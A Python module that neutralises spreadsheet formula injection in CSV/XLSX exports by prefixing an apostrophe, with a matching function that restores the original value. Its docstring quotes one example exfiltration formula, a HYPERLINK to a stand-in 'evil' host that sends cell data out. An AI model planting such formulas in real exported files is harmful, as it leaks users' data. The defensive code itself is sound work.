"""Cells written to CSV/XLSX files that a spreadsheet must show, never run.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil/?"&A1, "Click")` sends the sheet's
data away). `neutralise_cell` puts an apostrophe in front of such a cell (OWASP's advice for
"CSV injection"); plain numbers such as `-2` or `+3.5` are left alone so scores stay numbers.
`restore_cell` undoes it exactly, so a file the app wrote reads back unchanged: a value that
already starts with apostrophes before such a character gets one more, which restore removes.
"""

from __future__ import annotations

import re

FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _needs_prefix(value: str) -> bool:
    """Does the value, after any leading apostrophes, start like a formula?"""
    rest = value.lstrip("'")
    return bool(rest) and rest[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(rest)


def neutralise_cell(value: str) -> str:
    """The text to write for a cell so no spreadsheet runs it as a formula."""
    return "'" + value if _needs_prefix(value) else value


def restore_cell(value: str) -> str:
    """The value `neutralise_cell` was given, from the text it returned."""
    if value.startswith("'") and _needs_prefix(value[1:]):
        return value[1:]
    return value


def neutralise_row(values: list[str]) -> list[str]:
    return [neutralise_cell(value) for value in values]
